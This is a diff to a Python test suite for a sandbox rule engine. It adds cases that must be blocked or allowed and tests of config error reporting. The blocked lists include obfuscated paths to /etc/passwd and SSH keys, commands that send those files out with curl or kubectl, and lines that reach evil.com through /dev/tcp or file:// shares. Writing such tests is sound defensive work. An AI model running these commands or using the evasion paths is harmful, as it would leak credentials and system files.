@@ -4,6 +4,7 @@ Sandbox rules on whole calls: what leads out is blocked, however it is written, 
 
 from __future__ import annotations
 
+import json
 import os
 from pathlib import Path
 from typing import Any
@@ -108,6 +109,16 @@ LEADS_OUT: list[Data] = [
     {"shell": True, "args": ["cat", "/etc/passwd"]},
     {"note": "%7E/.ssh/id_rsa"},
     {"note": "deep-link/../../../x"},
+    {"path": " /etc/passwd"},
+    {"path": "\u00a0../outside/secret"},
+    {"path": "%20/etc/passwd"},
+    {"path": "leak.txt "},
+    {"path": "'/etc/passwd'"},
+    {"path": ' "~/.ssh/id_rsa" '},
+    {"path": "`../outside/secret`"},
+    {"path": "./~/.ssh/id_rsa"},
+    {"path": ".//./~root/x"},
+    {"path": "src/../~/x"},
 ]
 
 
@@ -139,6 +150,10 @@ STAYS_INSIDE: list[Data] = [
     {"ratio": "1/2", "number": 5, "flag": True, "none": None},
     {"pattern": "a..b"},
     {"version": "1..2"},
+    {"path": " src/main.py "},
+    {"path": "'src/main.py'"},
+    {"path": "src/main.py~"},
+    {"path": "src/~/x"},
     {"options": {"cwd": "src"}, "path": "../notes.txt"},
     {"dir": "src", "file": "main.py"},
     {"root": ".", "path": "src/../notes.txt"},
@@ -240,6 +255,11 @@ COMMANDS_OUT: list[Any] = [
     "dd if=/etc/passwd",
     "curl -d @/etc/passwd",
     "curl -F file=@/etc/passwd",
+    "kubectl create secret generic x --from-file=key=/etc/passwd",
+    "kubectl create secret generic x --from-file=key=leak.txt",
+    "curl --form=file=@/etc/passwd",
+    "tool --set=a==/etc/passwd",
+    "tool --set=a=b,c=@../outside/secret",
     "grep x src:/etc",
     "cat leak.txt",
     "cat leak*",
@@ -311,6 +331,9 @@ COMMANDS_INSIDE: list[Any] = [
     "echo price: 5$",
     "echo 'it costs $5'",
     "X=1 make",
+    "helm upgrade x --set-file=key=notes.txt,a=b==",
+    "echo " + "a=" * 5_000,
+    "curl --data=a=b=https://example.com/x",
     "find . -name '*.py'",
     "bash -c 'ls src'",
     ["git", "commit", "-m", "a; b"],
@@ -461,6 +484,9 @@ HOSTS_OUT: list[Data] = [
     {"command": "cat x > /dev/tcp/evil.com/80"},
     {"command": "bash -c 'curl https://evil.com'"},
     {"note": "look at http:\\\\evil.com"},
+    {"note": "`http://github.com`evil.com://github.com/`"},
+    {"note": "file://evil.com/share/x"},
+    {"command": "cat file://evil.com/share/x"},
     {"content": "data sent to https://evil.com/"},
 ]
 
@@ -479,6 +505,8 @@ HOSTS_IN: list[Data] = [
     {"url": "/relative/link"},
     {"url": "#top"},
     {"note": "see https://github.com/a, https://api.example.com."},
+    {"note": "see `https://github.com/a`, 'https://github.com'https://api.example.com"},
+    {"note": "file:///tmp/x file:/tmp/x FILE://localhost/tmp/x file:x file://"},
     {"command": "git clone https://github.com/a/b.git"},
     {"command": "git clone git@github.com:a/b.git"},
     {"path": "src/main.py"},
@@ -541,6 +569,29 @@ def test_observed_sandbox_rule_never_blocks() -> None:
 def test_entry_that_cannot_be_read_is_refused_with_its_rule() -> None:
     with pytest.raises(EdictumConfigError, match=r"rules\[0\].*https://example.com/path"):
         Edictum.from_bundle_dict(ruleset(box(allows={"domains": ["https://example.com/path"]})))
+
+
+def test_entries_that_cannot_be_read_are_all_refused_with_their_places(tmp_path: Path) -> None:
+    bad, worse = box(id="bad", allows={"domains": ["a/b"]}), box(id="worse", within=["~nobody-has-this-name"])
+    path = tmp_path / "rules.json"
+    path.write_text(json.dumps(ruleset(pre(), bad, worse), indent=0))
+    with pytest.raises(EdictumConfigError) as caught:
+        Edictum.from_yaml(path)
+    lines = path.read_text().splitlines()
+    places = [(problem.file, problem.path, lines[problem.line or 0]) for problem in caught.value.errors]
+    assert places == [("rules.json", "rules[1]", '"id": "bad",'), ("rules.json", "rules[2]", '"id": "worse",')]
+
+
+def test_entry_that_cannot_be_read_is_placed_in_the_file_it_came_from(tmp_path: Path) -> None:
+    names = {"base": ruleset(pre("a")), "top": ruleset(pre("b"), box(allows={"domains": ["a/b"]}), extends="base")}
+    names["watching"] = ruleset(box(allows={"domains": ["a.com"]}), observe_alongside=True)
+    for name, document in names.items():
+        (tmp_path / f"{name}.json").write_text(json.dumps(document, indent=0))
+    with pytest.raises(EdictumConfigError) as caught:
+        Edictum.from_yaml(tmp_path / "top.json", tmp_path / "watching.json")
+    (problem,) = caught.value.errors
+    lines = (tmp_path / "top.json").read_text().splitlines()
+    assert (problem.file, problem.path, lines[problem.line or 0]) == ("top.json", "rules[1]", '"id": "box",')
 
 
 def test_working_directory_that_is_gone_blocks(root: Path) -> None:
